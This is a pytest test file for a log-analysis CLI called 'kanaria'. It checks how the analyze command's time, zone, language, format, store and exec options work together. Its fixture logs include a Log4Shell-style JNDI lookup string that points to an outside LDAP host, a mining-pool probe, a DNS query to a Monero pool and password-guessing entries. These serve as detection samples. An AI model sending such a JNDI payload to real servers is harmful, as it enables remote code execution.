"""Options of ``kanaria analyze`` in combination: each still does what it does alone."""

from __future__ import annotations

import csv
import io
import json
import shlex
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

import kanaria as api
from kanaria.app.commands.options import FAIL_ON
from kanaria.app.commands.unattended import recent, status_of
from kanaria.core.types import SEVERITIES, Analysis
from kanaria.core.zone import local_time
from tests.app.running import Kanaria
from tests.app.test_cli_incident import DAY, guessing

POOL = "pool.supportxmr.com"
SCANNER, ATTACKER, MINER, GUESSER = "203.0.113.9", "203.0.113.66", "192.168.1.20", "203.0.113.77"
PROBE = (
    SCANNER
    + r' - - [02/Mar/2026:04:00:00 +0000] "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}" 400 0 "-" "-"'
)
LOOKUP = ATTACKER + ' - - [04/Mar/2026:04:00:00 +0000] "GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1" 404 9 "-" "-"'
ASKED = f"2026-03-06T04:00:00+00:00 ns dnsmasq[7]: query[A] {POOL} from {MINER}"
WHO = {GUESSER: "high", MINER: "medium", ATTACKER: "low", SCANNER: "informational"}
"""One incident of each severity, as a report lists them; they happened on 8, 6, 4 and 2 March."""
LOGS = ("access.log", "dns.log", "auth.log")
LEVELS = [str(level) for level in SEVERITIES]


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("logs")
    (place / "access.log").write_text(f"{PROBE}\n{LOOKUP}\n")
    (place / "dns.log").write_text(f"{ASKED}\n")
    (place / "auth.log").write_text("\n".join(guessing(DAY + timedelta(days=6), GUESSER)) + "\n")
    return place


@pytest.fixture
def names(logs: Path) -> list[str]:
    return [str(logs / name) for name in LOGS]


@pytest.fixture(scope="module")
def analysis(logs: Path) -> Analysis:
    return api.analyse(*(logs / name for name in LOGS))


def test_the_logs_hold_one_incident_of_each_severity(analysis: Analysis) -> None:
    named = {incident.severity: {*incident.devices, *incident.remotes} for incident in analysis.incidents}
    assert list(named) == list(WHO.values()), "the most severe first"
    assert all(who in named[severity] for who, severity in WHO.items())  # type: ignore[index]


class TestSinceAndFailOn:
    """What is left out by its time does not count for the status, whatever counts."""

    @pytest.mark.parametrize(
        ("since", "left"),
        [("2026-03-01", 4), ("2026-03-03", 3), ("2026-03-05", 2), ("2026-03-07", 1), ("2026-03-09", 0)],
    )
    @pytest.mark.parametrize("level", FAIL_ON)
    def test_status(self, analysis: Analysis, since: str, left: int, level: str) -> None:
        shown = recent(analysis, since, datetime.now(UTC), local_time("UTC"))
        severities = list(WHO.values())[:left]
        assert [incident.severity for incident in shown.incidents] == severities
        least = {"any": "informational", "action": "medium"}.get(level, level)
        counts = any(LEVELS.index(severity) >= LEVELS.index(least) for severity in severities)
        assert status_of(shown, level) == (1 if counts else 0)

    @pytest.mark.parametrize(
        ("span", "left"),
        [("30min", 0), ("25h", 1), ("24H", 1), ("3d", 2), ("73 h", 2), ("1w", 4), ("5d", 3), ("999999w", 4), ("0d", 0)],
    )
    def test_a_span_is_counted_back_from_now(self, analysis: Analysis, span: str, left: int) -> None:
        now = DAY + timedelta(days=7)  # a day after the last incident
        if span == "999999w":
            with pytest.raises(api.ConfigError, match="a span such as 25h or 7d"):
                recent(analysis, span, now, local_time("UTC"))
            return
        assert len(recent(analysis, span, now, local_time("UTC")).incidents) == left

    @pytest.mark.parametrize("since", ["", "yesterday", "7", "d", "-1d", "1.5h", "2026-13-01", "7 days ago", "1h30min"])
    def test_what_is_no_time_is_said(self, kanaria: Kanaria, names: list[str], since: str) -> None:
        done = kanaria("analyze", names[1], "--since", since)
        assert done.status == 2 and "--since: expected a span such as 25h or 7d" in done.err


class TestSinceAndZone:
    """A time that names no zone is of the zone that ``--tz`` or the settings name: 6 March 04:00 is 13:00 in Tokyo."""

    @pytest.mark.parametrize(
        ("since", "zone", "shown"),
        [
            ("2026-03-06T04:00", "UTC", True), ("2026-03-06T04:01", "UTC", False),
            ("2026-03-06T13:00", "Asia/Tokyo", True), ("2026-03-06T13:01", "Asia/Tokyo", False),
            ("2026-03-05T23:00", "America/New_York", True), ("2026-03-05T23:01", "America/New_York", False),
            ("2026-03-06T13:00+09:00", "UTC", True), ("2026-03-06T04:01Z", "Asia/Tokyo", False),
        ],
    )  # fmt: skip
    def test_the_options(self, kanaria: Kanaria, names: list[str], since: str, zone: str, shown: bool) -> None:
        done = kanaria("analyze", names[1], "--format", "json", "--since", since, "--tz", zone)
        assert bool(done.document["incidents"]) is shown and done.status == int(shown)

    def test_the_settings(self, kanaria: Kanaria, names: list[str], tmp_path: Path) -> None:
        (tmp_path / "k.toml").write_text('timezone = "Asia/Tokyo"\n')
        statuses = [
            kanaria("analyze", names[1], "--since", since, "--config", "k.toml").status
            for since in ("2026-03-06T13:00", "2026-03-06T13:01")
        ]
        assert statuses == [1, 0]


class TestLanguageAndFormat:
    @pytest.mark.parametrize("language", ["en", "ja"])
    @pytest.mark.parametrize(
        "kind", ["text", "markdown", "html", "json", "ocsf", "stix", "navigator", "misp", "csv", "iocs"]
    )
    def test_every_format_in_every_language_with_everything_else(
        self, kanaria: Kanaria, names: list[str], tmp_path: Path, kind: str, language: str
    ) -> None:
        """Written to a file, of the last days, by settings, with a status that says what counts."""
        (tmp_path / "k.toml").write_text(f'[devices]\ncritical = ["{MINER}"]\n')
        options = ("--since", "2026-03-05", "--fail-on", "critical", "--tz", "Asia/Tokyo", "--config", "k.toml")
        done = kanaria("analyze", *names[:2], "--format", kind, "--lang", language, "-o", "out", *options)
        assert (done.status, done.out) == (0, ""), done.err
        text = (tmp_path / "out").read_text()
        assert told_alone(kind, language, text), text[:500]
        assert SCANNER not in text.replace("[.]", ".") and ATTACKER not in text.replace("[.]", "."), "before that day"


def told_alone(kind: str, language: str, text: str) -> bool:
    """Whether the miner's incident is told in that language, and no other is."""
    japanese = any("ぁ" <= letter <= "ん" for letter in text)
    if kind == "json":
        (incident,) = json.loads(text)["incidents"]
        return MINER in incident["entities"]["devices"] and japanese  # both languages, always
    if kind == "ocsf":
        events = [json.loads(line) for line in text.splitlines()]
        return {event["class_uid"] for event in events} == {2004, 2005} and japanese == (language == "ja")
    if kind == "stix":
        (report,) = [item for item in json.loads(text)["objects"] if item["type"] == "report"]
        return bool(report["lang"] == language) and japanese == (language == "ja")
    if kind == "misp":
        return "Event" in json.loads(text) and japanese == (language == "ja")
    if kind == "navigator":
        return bool(json.loads(text)["techniques"]) and japanese == (language == "ja")
    if kind == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
        return {row["device"] for row in rows} == {MINER} and japanese == (language == "ja")
    return MINER in text.replace("[.]", ".").replace("\\", "") and japanese == (language == "ja")


@pytest.fixture(scope="module")
def kept(logs: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("kept") / "s"
    api.analyse(*(logs / name for name in LOGS), store=place)
    return place


class TestStore:
    """With a store, in a second run over the same logs nothing is news."""

    @pytest.mark.parametrize(("level", "status"), [("any", 1), ("action", 0), ("informational", 0), ("high", 0)])
    def test_only_news_counts_but_for_any(
        self, kanaria: Kanaria, kept: Path, names: list[str], level: str, status: int
    ) -> None:
        done = kanaria("analyze", *names, "--store", str(kept), "--fail-on", level, "--format", "json")
        assert {incident["alert"]["kind"] for incident in done.document["incidents"]} == {"known"}
        assert done.status == status

    def test_what_is_left_out_by_its_time_is_kept_all_the_same(
        self, kanaria: Kanaria, names: list[str], tmp_path: Path
    ) -> None:
        done = kanaria("analyze", *names, "--store", "s", "--since", "2026-03-07", "--format", "json")
        assert len(done.document["incidents"]) == 1
        assert len(kanaria("incident", "list", "--store", "s").out.splitlines()) == 4

    def test_what_was_left_out_by_its_time_was_not_told(
        self, kanaria: Kanaria, names: list[str], tmp_path: Path
    ) -> None:
        """So it is news in the next run that shows it."""
        kanaria("analyze", *names, "--store", "s", "--since", "2026-03-07")
        again = kanaria("analyze", *names, "--store", "s", "--format", "json")
        kinds = {i["severity"]: i["alert"]["tell"] for i in again.document["incidents"]}
        assert kinds == {"high": False, "medium": True, "low": True, "informational": True}


class TestExec:
    """A program is started with the document of what is shown, when the status says that something counts."""

    @pytest.mark.parametrize(
        ("options", "severities"),
        [
            ((), ["high", "medium", "low", "informational"]),
            (("--since", "2026-03-07"), ["high"]),
            (("--since", "2026-03-09"), None),
            (("--fail-on", "critical"), None),
            (("--fail-on", "high", "--since", "2026-03-05", "--format", "csv", "-o", "out.csv"), ["high", "medium"]),
        ],
    )
    def test_with_the_other_options(
        self, kanaria: Kanaria, names: list[str], tmp_path: Path, options: tuple[str, ...], severities: list[str] | None
    ) -> None:
        code = "import sys; open('got.json', 'w').write(sys.stdin.read())"
        kanaria("analyze", *names, "--exec", shlex.join([sys.executable, "-c", code]), *options)
        got = tmp_path / "got.json"
        assert got.exists() is (severities is not None)
        if severities is not None:
            assert [incident["severity"] for incident in json.loads(got.read_text())["incidents"]] == severities

    @pytest.mark.parametrize(
        ("command", "english", "japanese"),
        [
            ("/no/such/program", "--exec /no/such/program: ", "--exec /no/such/program: "),
            (shlex.join([sys.executable, "-c", "raise SystemExit(7)"]), "ended with status 7", "状態7で終了しました"),
        ],
    )
    def test_one_that_fails_is_said_in_the_language_and_changes_no_status(
        self, kanaria: Kanaria, names: list[str], command: str, english: str, japanese: str
    ) -> None:
        for language, said in (("en", english), ("ja", japanese)):
            done = kanaria("analyze", names[1], "--exec", command, "--lang", language)
            assert done.status == 1 and said in done.err
            assert ("No such file" in done.err) is (language == "en" and command.startswith("/no"))
